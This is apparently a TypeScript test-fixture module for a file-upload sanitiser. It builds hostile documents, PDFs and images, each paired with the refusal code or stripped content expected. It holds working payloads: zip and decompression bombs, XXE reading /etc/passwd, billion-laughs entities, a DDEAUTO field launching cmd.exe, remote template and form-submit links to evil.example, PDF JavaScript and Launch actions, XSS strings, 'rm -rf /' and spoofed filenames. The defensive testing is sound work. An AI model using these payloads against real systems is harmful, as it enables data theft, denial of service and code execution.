/** Files that nobody should send: what each is, and what becomes of it. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { pdf } from './forms.js';
import { docx, docxParts, relations, xlsx, xlsxParts, zip, type Part } from './zips.js';

export interface Nasty {
  what: string;
  content: Buffer | string;
  /** The code it is refused with; or, once it is made harmless, what is no longer in it. */
  refused?: string;
  without?: readonly string[];
  name?: string;
}

const refused = (code: string, files: Record<string, Buffer | string>): Nasty[] =>
  Object.entries(files).map(([what, content]) => ({ what, content, refused: code }));

const zeros = (bytes: number) => Buffer.alloc(bytes, ' ');
const relation = (kind: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/>`;
const withRelation = (inside: string) => docx([{ name: 'word/_rels/document.xml.rels', content: relations(inside) }]);
const many = (count: number, content: Buffer | string): Part[] =>
  Array.from({ length: count }, (_, n) => ({ name: `word/p${n}.xml`, content }));
const XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>';
const LAUGHS = `<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>`;

const documents = (): Nasty[] => {
  const shared = zeros(900_000);
  const overlapping: Part[] = Array.from({ length: 40 }, (_, n) => ({
    name: `word/o${n}.xml`,
    content: shared,
    says: n === 0 ? {} : { at: zip(docxParts()).readUInt32LE(zip(docxParts()).length - 6) },
  }));
  return [
    ...refused('file-too-large-inside', {
      'a flat bomb': docx([{ name: 'word/bomb.xml', content: zeros(45_000_000) }]),
      'a bomb of many small parts': docx(many(60, zeros(900_000))),
      'parts packed a thousandfold, none of them large': docx(many(30, zeros(900_000))),
      'a part that holds far more than its directory says': docx([
        { name: 'word/a.xml', content: zeros(30_000_000), says: { size: 500 } },
      ]),
      'parts that share their bytes': docx(overlapping),
      'a workbook of 60,000 parts': zip([
        ...xlsxParts(),
        ...Array.from({ length: 60_000 }, (_, n) => ({ name: `x/${n}.xml`, content: '', stored: true })),
      ]),
      'a document of 100,000 parts': zip([
        ...docxParts(),
        ...Array.from({ length: 100_000 }, (_, n) => ({ name: `${n}`, content: '', stored: true })),
      ]),
      'a document of 2,001 parts': docx(many(1_998, '<a/>')),
    }),
    ...refused('file-broken', {
      'a part that is smaller than its directory says': docx([
        { name: 'word/a.xml', content: '<a/>', says: { size: 5 } },
      ]),
      'a part with a wrong sum': docx([{ name: 'word/a.xml', content: '<a/>', says: { crc: 1 } }]),
      'a part named ../../etc/passwd': docx([{ name: '../../etc/passwd.xml', content: '<a/>' }]),
      'a part named C:\\': docx([{ name: 'C:\\Windows\\a.xml', content: '<a/>' }]),
      'a part named /etc/passwd': docx([{ name: '/etc/passwd.xml', content: '<a/>' }]),
      'a part with NUL in its name': docx([{ name: 'word/a\0.exe.xml', content: '<a/>' }]),
      'a part that calls itself something else': docx([
        { name: 'word/a.xml', content: '<a/>', says: { local: 'word/b.exe' } },
      ]),
      'two parts of one name': docx([
        { name: 'word/a.xml', content: '<a/>' },
        { name: 'word/a.xml', content: '<b/>' },
      ]),
      'a part named with a line break': docx([{ name: 'word/a\n.xml', content: '<a/>' }]),
      'a document with a page hidden in its comment': zip(docxParts(), { comment: '<script>alert(1)</script>' }),
      'a document that was cut off': docx().subarray(0, 300),
      'a document with a program behind it': Buffer.concat([docx(), Buffer.from('MZ and so on')]),
    }),
    ...refused('file-encrypted', {
      'a locked part': docx([{ name: 'word/a.xml', content: '<a/>', says: { flags: 0x801 } }]),
      'a document under a password': Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        zeros(600),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
    }),
    ...refused('file-kind', {
      'an archive': zip([{ name: 'a.txt', content: 'x' }]),
      'archives in archives': zip([
        { name: 'a.zip', content: zip([{ name: 'b.zip', content: zip([{ name: 'c', content: zeros(5_000_000) }]) }]) },
      ]),
      'a GIF that is a document': zip(docxParts(), { before: 'GIF89a' }),
      'a document of before 2007': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), zeros(600)]),
    }),
    ...refused('file-active', {
      'a bomb within a bomb': docx([
        { name: 'word/inner.zip', content: zip([{ name: 'x', content: zeros(9_000_000) }]) },
      ]),
      'a macro': docx([{ name: 'word/vbaProject.bin', content: 'x' }]),
      'a macro under another name': zip(
        docxParts().map((part, n) =>
          n === 0
            ? {
                ...part,
                content: String(part.content).replace('wordprocessingml.document.main', 'document.macroEnabled.main'),
              }
            : part,
        ),
      ),
      'a macro sheet': xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
      'a template that is fetched': withRelation(relation('attachedTemplate', 'https://evil.example/t.dotm')),
      'a picture that is fetched': withRelation(relation('image', 'https://evil.example/p.png')),
      'a template that is fetched, written in numbers': withRelation(
        relation('attachedTemplate', 'https://evil.example/t', 'Extern&#97;l'),
      ),
      'a workbook elsewhere': xlsx([
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          content: relations(relation('externalLinkPath', 'file:///c:/a.xlsx')),
        },
      ]),
      'relations that never end': docx([
        {
          name: 'word/_rels/document.xml.rels',
          content: relations('<Relationship '.repeat(300_000) + relation('image', 'https://evil.example')),
          stored: true,
        },
      ]),
      'a link to a place on a machine': withRelation(relation('hyperlink', 'file://evil/share/a.exe')),
      'an entity of the machine': docx([{ name: 'word/a.xml', content: XXE }]),
      'an entity that grows': xlsx([{ name: 'xl/sharedStrings.xml', content: LAUGHS }]),
      'an entity in another encoding': docx([{ name: 'word/a.xml', content: Buffer.from(XXE, 'utf16le') }]),
      'a field that runs a program': docx([], '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
      'a document within a document': docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
      'a control': docx([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]),
      'a program among the pictures': docx([{ name: 'word/media/image1.png', content: 'MZ\x90\0 and so on' }]),
      'a drawing with a script': docx([{ name: 'word/media/a.svg', content: '<svg><script>alert(1)</script></svg>' }]),
    }),
  ];
};

const objects = (text: string) =>
  Buffer.concat([
    Buffer.from(`9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n`),
    deflateSync(Buffer.from(text)),
    Buffer.from('\nendstream\nendobj'),
  ]).toString('latin1');

const pdfs = (): Nasty[] => [
  ...refused('file-active', {
    'a PDF with JavaScript': pdf({ more: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    'a PDF with JavaScript whose name is in numbers': pdf({ more: '/AA << /O << /S /J#61va#53cript /J#53 (x) >> >>' }),
    'a PDF with a script under a short name': pdf({ more: '/AA << /O << /S /Rendition /JS (x) >> >>' }),
    'a PDF with packed JavaScript': pdf({ objects: objects('8 0 << /S /JavaScript /JS (x) >>') }),
    'a PDF that starts a program': pdf({ more: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'a PDF that opens a page of the web': pdf({ more: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
    'a PDF that opens one by reference': pdf({
      more: '/OpenAction 7 0 R',
      objects: '7 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj',
    }),
    'a PDF that carries a file': pdf({ more: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>' }),
    'a PDF that is a program’s form': pdf({ more: '/AcroForm << /XFA [] >>' }),
    'a PDF that sends what is typed': pdf({ more: '/AA << /C << /S /SubmitForm /F (https://evil.example) >> >>' }),
    'a PDF that shows a page and then runs something': pdf({
      more: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
      objects: '8 0 obj << /OpenAction << /S /URI /URI (https://evil.example) >> >> endobj',
    }),
    'a PDF that shows a page and goes on to the web': pdf({
      more: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
    }),
    'a PDF whose first action is defined twice': pdf({
      more: '/OpenAction 7 0 R',
      objects: '7 0 obj\n[3 0 R /Fit]\nendobj\n7 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj',
    }),
    'a PDF with packed JavaScript behind a false beginning': pdf({
      objects: objects('8 0 << /S /JavaScript >>').replace('/N 1', '/N 1 % stream\n'),
    }),
    'a PDF with packed JavaScript under a name in numbers': pdf({
      objects: objects('8 0 << /S /JavaScript >>').replace('/ObjStm', '/Obj#53tm'),
    }),
    'a PDF with a hundred thousand openings': pdf({ objects: '/OpenAction 7 0 R\n'.repeat(100_000) }),
    'a PDF that is a page of the web': pdf({ objects: '% <html><script>alert(1)</script></html>' }),
  }),
  ...refused('file-broken', {
    'a PDF that is an archive': Buffer.concat([pdf(), zip([{ name: 'a.exe', content: 'x' }], { comment: '%%EOF' })]),
    'a PDF packed in a way that nobody uses': pdf({ objects: objects('x').replace('/FlateDecode', '/LZWDecode') }),
    'a PDF of packed objects without an end': pdf({ objects: '/ObjStm /Filter stream\n'.repeat(400_000) }),
    'a PDF that was cut off': pdf().subarray(0, 200),
    'a PDF with two kilobytes behind it': Buffer.concat([pdf(), zeros(2_048)]),
  }),
  ...refused('file-encrypted', { 'a locked PDF': pdf({ trailer: '/Encrypt 5 0 R' }) }),
  ...refused('file-too-large-inside', { 'a PDF with a bomb': pdf({ objects: objects(' '.repeat(60_000_000)) }) }),
  ...['stream', 'endstream'].map((word) => ({
    what: `a PDF of ${word} a million times`,
    content: pdf({ objects: `>>\n${word}\n`.repeat(800_000) }),
    without: ['SECRET'],
  })),
  ...refused('file-kind', {
    'a PDF that begins later': Buffer.concat([Buffer.from('<html>\n'), pdf()]),
    'a web page called a PDF': '<!doctype html><script>alert(1)</script>',
  }),
];

/** A PNG of these chunks behind its head. */
function png(width: number, height: number, chunks: readonly [string, Buffer][]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.writeUInt8(1, 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    ...([['IHDR', head], ...chunks, ['IEND', Buffer.alloc(0)]] as [string, Buffer][]).map(([type, data]) => {
      const named = Buffer.concat([Buffer.from(type), data]);
      const chunk = Buffer.alloc(8);
      chunk.writeUInt32BE(data.length, 0);
      chunk.writeUInt32BE(crc32(named), 4);
      return Buffer.concat([chunk.subarray(0, 4), named, chunk.subarray(4)]);
    }),
  ]);
}
/** Black, one bit a pixel. */
const black = (width: number, height: number) => deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));

async function images(): Promise<Nasty[]> {
  const image = sharp({ create: { width: 60, height: 60, channels: 3, background: '#3a7' } });
  const jpeg = await image.clone().jpeg().toBuffer();
  const plain = await image.clone().png().toBuffer();
  const located = await image
    .clone()
    .withExif({ IFD0: { Artist: 'SECRET-ARTIST' }, IFD3: { GPSLatitudeRef: 'N' } })
    .jpeg()
    .toBuffer();
  const archive = zip([{ name: 'SECRET-ENTRY', content: 'x' }]);
  const commented = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from('fffe001d', 'hex'),
    Buffer.from('<script>alert(1)</script>--'),
    jpeg.subarray(2),
  ]);
  const huge = Buffer.from(jpeg);
  const frame = huge.indexOf(Buffer.from('ffc0', 'hex'));
  huge.writeUInt16BE(65_000, frame + 5);
  huge.writeUInt16BE(65_000, frame + 7);
  const bomb = deflateSync(Buffer.alloc(60_000_000));
  return [
    { what: 'a photograph that says where it was taken', content: located, without: ['SECRET-ARTIST', 'Exif'] },
    {
      what: 'a JPEG with an archive behind it',
      content: Buffer.concat([jpeg, archive]),
      without: ['PK\u0003\u0004', 'SECRET-ENTRY'],
    },
    { what: 'a JPEG with a page in it', content: commented, without: ['<script'] },
    {
      what: 'a PNG with an archive behind it',
      content: Buffer.concat([plain, archive]),
      without: ['PK\u0003\u0004', 'SECRET-ENTRY'],
    },
    {
      what: 'a PNG with a text that grows',
      content: png(8, 8, [
        ['zTXt', Buffer.concat([Buffer.from('SECRET\0\0'), bomb])],
        ['IDAT', black(8, 8)],
      ]),
      without: ['SECRET'],
    },
    {
      what: 'a PNG with a profile that grows',
      content: png(8, 8, [
        ['iCCP', Buffer.concat([Buffer.from('SECRET\0\0'), bomb])],
        ['IDAT', black(8, 8)],
      ]),
      without: ['SECRET', 'iCCP'],
    },
    {
      what: 'a PNG of 49 million black pixels',
      content: png(7_000, 7_000, [['IDAT', black(7_000, 7_000)]]),
      without: ['SECRET'],
    },
    ...refused('file-too-large-inside', {
      'a JPEG that says it is 65,000 x 65,000': huge,
      'a PNG of 400 million pixels': png(20_000, 20_000, [['IDAT', black(20_000, 20_000)]]),
    }),
    ...refused('file-broken', {
      'a PNG that says it is 2 billion wide': png(2_000_000_000, 1, [['IDAT', black(8, 1)]]),
      'a JPEG that was cut off': jpeg.subarray(0, jpeg.length - 40),
      'a PNG that was cut off': plain.subarray(0, plain.length - 40),
      'a head of a PNG before an SVG': Buffer.concat([plain.subarray(0, 33), Buffer.from('<svg onload="alert(1)"/>')]),
    }),
    ...refused('file-kind', {
      'an SVG called a PNG': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'a GIF that is a script': 'GIF89a=/*\0\0\0*/alert(1)//',
      'a picture that moves': png(8, 8, [
        ['acTL', Buffer.from('0000000200000000', 'hex')],
        ['IDAT', black(8, 8)],
      ]),
      'a WebP': await image.clone().webp().toBuffer(),
      'a TIFF': await image.clone().tiff().toBuffer(),
    }),
  ];
}

const EICAR = [
  'X5O!P%@AP[4',
  String.fromCharCode(92),
  'PZX54(P^)7CC)7}$EICAR',
  '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
].join('');

export const nastyFiles = async (): Promise<Nasty[]> => [
  ...documents(),
  ...pdfs(),
  ...(await images()),
  ...refused('file-kind', {
    'what anti-virus programs look for': EICAR,
    'a program called a PDF': Buffer.concat([Buffer.from('MZ'), zeros(500)]),
    'a program of another system': Buffer.concat([Buffer.from('7f454c46', 'hex'), zeros(500)]),
    'a script': '#!/bin/sh\nrm -rf /\n',
    'ten megabytes of nothing': Buffer.alloc(10_485_760),
  }),
  ...refused('file-empty', { nothing: '' }),
  ...refused('file-too-large', { 'one byte too many': Buffer.concat([pdf(), zeros(10_485_761 - pdf().length)]) }),
];

/** What a file was called, and what it is called then. */
export const NASTY_NAMES: readonly [given: string, shown: RegExp][] = [
  ['../../etc/passwd', /^passwd\.pdf$/],
  ['C:\\Windows\\System32\\evil.exe', /^evil\.pdf$/],
  ['a\0.exe\0.pdf', /^a\.exe\.pdf$/],
  ['invoice\u202Efdp.exe', /^invoicefdp\.pdf$/],
  ['\u2066\u200B\u2069', /^attachment\.pdf$/],
  ['名'.repeat(500), /^名{116}\.pdf$/],
  ['CON.pdf', /^_CON\.pdf$/],
  [`${'.'.repeat(70_000)}x`, /^x\.pdf$|^attachment\.pdf$/],
  ['...', /^attachment\.pdf$/],
  ['<img src=x onerror=alert(1)>.html', /^_img src=x onerror=alert\(1\)_\.pdf$/],
  ['a%0d%0aSet-Cookie: x', /^a%0d%0aSet-Cookie_ x\.pdf$/],
  ['表彰.docx', /^表彰\.pdf$/],
];
